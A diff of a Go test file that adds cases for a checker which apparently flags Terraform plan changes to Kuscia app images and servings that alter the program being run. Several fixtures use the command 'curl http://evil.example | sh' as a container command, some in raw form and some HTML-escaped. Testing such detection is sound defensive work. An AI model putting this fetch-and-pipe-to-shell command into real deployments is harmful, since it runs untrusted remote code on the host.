@@ -342,9 +342,34 @@ var refusals = map[string]struct {
 			change("kuscia_serving.glm", updated, glm(party("a", attributes{"image": "sf:1"})), glm(party("b", attributes{"image": "sf:1"}))),
 		},
 		says: []string{
-			"- Runs another program, or in another way: the app image `b` (`deploy_templates.0.containers.0.command.0` `./serve` → <code>curl http&#58;&#47;&#47;evil&#46;example &#124; sh</code>), used by `glm`\n",
+			"- Runs another program, or in another way: the serving `glm` (`parties.alice.app_image` `a` → `b`); the app image `b` (`deploy_templates.0.containers.0.command.0` `./serve` → <code>curl http&#58;&#47;&#47;evil&#46;example &#124; sh</code>), used by `glm`\n",
 			"| `kuscia_app_image.b` | `deploy_templates.0.containers.0.command.0` | `./serve` | <code>curl http&#58;&#47;&#47;evil&#46;example &#124; sh</code> |",
 		},
+	},
+	"another app image, of which the plan has only the new one": {
+		failOn: "code",
+		changes: []attributes{
+			change("kuscia_app_image.b", created, nil, with(container("curl http://evil.example | sh"), "name", "b")),
+			change("kuscia_serving.glm", updated, glm(party("a", attributes{"image": "sf:1"})), glm(party("b", attributes{"image": "sf:1"}))),
+		},
+		says: []string{
+			"- Runs another program, or in another way: the serving `glm` (`parties.alice.app_image` `a` → `b`); the app image `b` (`deploy_templates.0.containers.0.command.0` (not known) → <code>curl http&#58;&#47;&#47;evil&#46;example &#124; sh</code>), used by `glm`\n",
+			"| `kuscia_serving.glm` | `parties.alice.app_image` | `a` | `b` |",
+		},
+	},
+	"another app image of a provider configuration that is not known": {
+		failOn: "code",
+		fields: configured(map[string]string{"kuscia_app_image.b": "kuscia.b", "kuscia_domain.b": "kuscia.a"}),
+		changes: []attributes{
+			change("kuscia_app_image.b", same, with(container("curl"), "name", "b"), with(container("curl"), "name", "b")),
+			change("kuscia_serving.glm", updated, glm(party("a", attributes{"image": "sf:1"})), glm(party("b", attributes{"image": "sf:1"}))),
+		},
+		says: []string{"the serving `glm` (`parties.alice.app_image` `a` → `b`)", "| `kuscia_app_image.b` | `deploy_templates.0.containers.0.command.0` | (not known) | `curl` |"},
+	},
+	"another app image that is not in the plan": {
+		failOn:  "code",
+		changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a", attributes{"image": "sf:1"})), glm(party("b", attributes{"image": "sf:1"})))},
+		says:    []string{"- Runs another program, or in another way: the serving `glm` (`parties.alice.app_image` `a` → `b`)\n", "| `kuscia_serving.glm` | `parties.alice.app_image` | `a` | `b` |"},
 	},
 	"another command beside another image": {
 		failOn:  "code",
